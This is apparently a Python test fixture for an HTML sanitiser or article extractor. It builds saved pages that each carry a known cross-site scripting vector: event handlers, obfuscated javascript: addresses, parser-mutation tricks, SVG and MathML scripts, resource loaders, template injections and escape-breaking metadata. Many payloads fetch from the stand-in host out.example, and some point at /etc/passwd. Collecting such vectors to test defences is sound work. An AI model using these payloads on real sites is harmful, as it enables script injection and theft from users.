"""Saved pages that try to get something of theirs into the site, one for each way that is known.

`PAGES` is a list of (name, head, body): what stands in the page's head, and what stands between the paragraphs of its
article. Whatever runs says so by `hit()`, a dialog or a request to out.example, a host that is never there.
"""

RUN = "window.hit=1;alert(1);fetch('https://out.example/run')"
JS = "javascript:window.hit=1;alert(1)"
OUT = "https://out.example/x"
# Base64 of <script>parent.hit=1;top.hit=1;alert(1)</script>, and of an SVG with the same.
DATA = "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0PTE7dG9wLmhpdD0xO2FsZXJ0KDEpPC9zY3JpcHQ+"
SVG = "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4="


def body(name, markup):
    return (name, "", markup)


def head(name, markup):
    return (name, markup, "")


# Elements that an event handler may hang on, and the events that fire by themselves.
HANDLERS = [
    f"<img src=x onerror={RUN}>", f'<img src=x onerror="{RUN}">', f"<img/src=x/onerror='{RUN}'>",
    f"<IMG SRC=x OnErRoR\n=\t\"{RUN}\">", f"<p onmouseover=\"{RUN}\" onfocus=\"{RUN}\" tabindex=0 autofocus>words</p>",
    f"<a href=# onclick=\"{RUN}\">a link of the text</a>", f"<details open ontoggle=\"{RUN}\"><summary>s</summary>d</details>",
    f"<video src=x onerror=\"{RUN}\"></video>", f"<audio src=x onerror=\"{RUN}\"></audio>",
    f"<input autofocus onfocus=\"{RUN}\">", f"<select autofocus onfocus=\"{RUN}\"><option>o</select>",
    f"<marquee onstart=\"{RUN}\">m</marquee>", f"<div onanimationstart=\"{RUN}\" style='animation:x 1s'>d</div>",
    f"<table background=x onload=\"{RUN}\"><tr><td onclick=\"{RUN}\">1<td>2<tr><td>3<td>4</table>",
    f"<li onpointerenter=\"{RUN}\">i</li>", f"<blockquote onwheel=\"{RUN}\">q</blockquote>",
    f"<p oncontentvisibilityautostatechange=\"{RUN}\" style='content-visibility:auto'>words</p>",
    f"<img src='x\"onerror=\"{RUN}'>", f"<img alt='\"><img src=x onerror={RUN}>' src=x>",
    f"<p title=\"'><script>{RUN}</script>\">words</p>", f"<body onload=\"{RUN}\"><p>words</p>",
]

# Spellings of an address that runs.
SCHEMES = [
    JS, "JaVaScRiPt:window.hit=1", " \t" + JS, "java\tscript:window.hit=1", "java\nscript:window.hit=1",
    "java&#10;script:window.hit=1", "java&Tab;script:window.hit=1", "&#106;avascript:window.hit=1", "&#x6A avascript:window.hit=1",
    "javascript&colon;window.hit=1", "\x01javascript:window.hit=1", "&#1;javascript:window.hit=1", "javascript\u200b:window.hit=1",
    "vbscript:msgbox(1)", "livescript:x", "mocha:x", DATA, SVG, "DATA:text/html,<script>top.hit=1</script>",
    "view-source:javascript:1", "feed:javascript:window.hit=1", "jar:javascript:1", "blob:https://out.example/1", "file:///etc/passwd",
    "filesystem:https://out.example/1", "\\\\out.example\\x", "/\\out.example/x", "///out.example/x", "https:out.example/x",
]

# Trees that a second parser would read in another way.
MUTATIONS = [
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\"></noscript>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<svg></p><style><a id=\"</style><img src=x onerror={RUN}>\">",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={RUN}&gt;\">",
    f"<math><mi><mglyph></mi><style><img src=x onerror={RUN}></style></math>",
    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror={RUN} src>\">",
    f"<template><img src=x onerror={RUN}></template>", f"<template shadowrootmode=open><script>{RUN}</script></template>",
    f"<!--><img src=x onerror={RUN}>-->", f"<!--!><img src=x onerror={RUN}>-->", f"<!-- --!><img src=x onerror={RUN}> -->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>", f"<?xml <img src=x onerror={RUN}>?>", f"<xmp><img src=x onerror={RUN}></xmp>",
    f"<title><img src=x onerror={RUN}></title>", f"<textarea></textarea><img src=x onerror={RUN}></textarea>",
    f"<select><template><img src=x onerror={RUN}></template></select>", f"<iframe><img src=x onerror={RUN}></iframe>",
    f"<noembed><img src=x onerror={RUN}></noembed>", f"<noframes><img src=x onerror={RUN}></noframes>",
    f"<p>&lt;img src=x onerror={RUN}&gt; and &amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;, he said.</p>",
    f"<p><![endif]--><script>{RUN}</script>", f"<plaintext><img src=x onerror={RUN}>",
]

SCRIPTS = [
    f"<script>{RUN}</script>", f"<SCRIPT/x>{RUN}</SCRIPT >", f"<scr<script>ipt>{RUN}</script>", f"<script src={OUT}.js></script>",
    f"<script type=module>{RUN}</script>", f"<<script>{RUN}//<</script>", f"<script\x00>{RUN}</script>", f"\x00<script>{RUN}</script>",
    f"<script><!--\n{RUN}\n--></script>", f"<script>{RUN}", f"<\u2028script>{RUN}</script>", f"<script\u202e>{RUN}</script>",
    f"<svg><script>{RUN}</script></svg>", f"<svg><script href={OUT}.js /></svg>", f"<svg onload=\"{RUN}\"></svg>",
    f"<svg><a xlink:href=\"{JS}\"><text y=20>t</text></a></svg>", f"<svg><use href=\"{SVG}#x\" /></svg>",
    f"<svg><animate attributeName=href values=\"{JS}\" /></svg>", f"<svg><set attributeName=onmouseover to=\"{RUN}\" /></svg>",
    f"<svg><foreignObject><iframe src=\"{JS}\"></iframe></foreignObject></svg>", f"<svg><image href={OUT}.png /></svg>",
    f"<math href=\"{JS}\"><mi>x</mi></math>", f"<math><maction actiontype=statusline xlink:href=\"{JS}\">x</maction></math>",
    f"<math><annotation-xml encoding=text/html><script>{RUN}</script></annotation-xml></math>",
]

# Elements that fetch, move or hold something.
LOADERS = [
    f"<iframe src={OUT}></iframe>", f"<iframe srcdoc=\"<script>top.hit=1</script>\"></iframe>", f"<iframe src=\"{JS}\"></iframe>",
    f"<object data={OUT}></object>", f"<object data=\"{DATA}\"></object>", f"<embed src={OUT}>", f"<embed src=\"{SVG}\">",
    f"<applet code={OUT}></applet>", f"<frameset><frame src={OUT}></frameset>", f"<portal src={OUT}></portal>",
    f"<meta http-equiv=refresh content='0;url={OUT}'>", f"<meta http-equiv=refresh content='0;{JS}'>",
    f"<base href={OUT}/>", f"<link rel=stylesheet href={OUT}.css>", f"<link rel=preload as=image href={OUT}.png>",
    f"<link rel=prefetch href={OUT}>", f"<link rel=dns-prefetch href=//out.example>", f"<link rel=manifest href={OUT}>",
    f"<style>@import '{OUT}.css'; body{{background:url({OUT}.png)}} *{{color:red!important}}</style>",
    f"<p style=\"background:url({OUT}.png);position:fixed;inset:0\">words</p>", f"<p style=\"width:expression({RUN})\">words</p>",
    f"<form action={OUT}><input name=q><button>Go</button></form>", f"<button formaction=\"{JS}\" form=f>b</button>",
    f"<form id=f><input type=image src={OUT}.png></form>", f"<isindex type=image src={OUT}.png>",
    f"<img src={OUT}.png>", "<img src=//out.example/x.png>", f"<img srcset='{OUT}.png 1x, {OUT}2.png 2x'>", f"<img src={SVG}>",
    f"<img data-src={OUT}.png loading=eager>", f"<img lowsrc={OUT}.png dynsrc={OUT}.avi longdesc=\"{JS}\">", f"<img src=\"{JS}\">",
    f"<picture><source srcset={OUT}.png><img src=x></picture>", f"<video poster={OUT}.png autoplay><source src={OUT}.mp4></video>",
    f"<video><track default src={OUT}.vtt></video>", f"<audio autoplay src={OUT}.mp3></audio>", f"<bgsound src={OUT}.mid>",
    f"<a href={OUT} ping={OUT}/ping>a link of the text</a>", f"<a href={OUT} target=_top download>a link of the text</a>",
    f"<area href=\"{JS}\" shape=default>", f"<map name=m><area href={OUT} shape=default></map><img usemap=#m src=x>",
    f"<body background={OUT}.png>", f"<table background={OUT}.png><tr><td background={OUT}.png>1<td>2<tr><td>3<td>4</table>",
    f"<q cite={OUT}>words</q>", f"<blockquote cite=\"{JS}\"><p>The words of somebody who was there on the day.</p></blockquote>",
    f"<p id=main name=cookie class=s>words</p><img name=getElementById><a id=search href={OUT}>a link of the text</a>",
    f"<dialog open><p>words</p></dialog><p popover>words</p>", f"<slot name=x></slot><x-card is=x-y onx=1>words</x-card>",
    "<p contenteditable draggable=true>words</p>", f"<a href={OUT} attributionsrc={OUT}/a>a link of the text</a>",
]

TEMPLATES = ["{{title}} {{{frame}}} {{#items}}x{{/items}}", "{% raw %}{{ 7*7 }}{% endraw %} {%include '/etc/passwd'%}",
             "${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('alert(1)')()}}", "{{> layout}} {{@site.title}} {{=<% %>=}}"]

BREAK = f"</title></script></style></textarea>--></p>\"'><img src=x onerror={RUN}><script>{RUN}</script>"
ESCAPED = BREAK.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;")
IN_JSON = BREAK.replace("\\", "\\\\").replace('"', '\\"').replace("</script>", "<\\/script>")

PAGES = (
    [body(f"script-{i}", m) for i, m in enumerate(SCRIPTS)]
    + [body(f"handler-{i}", m) for i, m in enumerate(HANDLERS)]
    + [body(f"mutation-{i}", m) for i, m in enumerate(MUTATIONS)]
    + [body(f"loader-{i}", m) for i, m in enumerate(LOADERS)]
    + [head(f"head-{i}", m) for i, m in enumerate(SCRIPTS[:4] + LOADERS[10:18])]
    + [body(f"link-{i}", f"<p>He said on Monday that <a href=\"{s}\">the plan</a> was his.</p>") for i, s in enumerate(SCHEMES)]
    + [body(f"template-{i}", f"<p>The man said: {t}, and he left the room.</p>") for i, t in enumerate(TEMPLATES)]
    + [
        body("escaped", f"<p>The man wrote {ESCAPED} on the wall, and he left the room.</p>"),
        body("bidi", "<p>The \u202eman\u2066 wrote\u2028 this\ufeff on\u200f the wall, and he left the room.</p>"),
        ("field-title", f"<title>{ESCAPED}</title><meta property=og:title content=\"{ESCAPED}\">", ""),
        head("field-author", f"<meta name=author content=\"Ada {ESCAPED}\">"),
        head("field-publisher", f"<meta property=og:site_name content=\"Coast {ESCAPED}\">"),
        head("field-date", f"<meta name=date content=\"2024-05-03{ESCAPED}\">"),
        head("field-address", f"<link rel=canonical href=\"{JS}\"><meta property=og:url content=\"{JS}\">"),
        head("field-address-break", f"<link rel=canonical href=\"https://coast.example/{ESCAPED}\">"),
        ("field-base", f"<base href=\"{JS}//\">", "<p>He said on Monday that <a href=plan>the plan</a> was his.</p>"),
        head("field-language", "<meta property=og:locale content=\"en&quot; onload=&quot;alert(1)\">"),
        head("field-linked-data", '<script type="application/ld+json">{"@type":"NewsArticle","headline":"' + IN_JSON
             + '","author":{"name":"' + IN_JSON + '"},"publisher":{"name":"' + IN_JSON + '"},"datePublished":"2024-05-03"}</script>'),
    ]
)
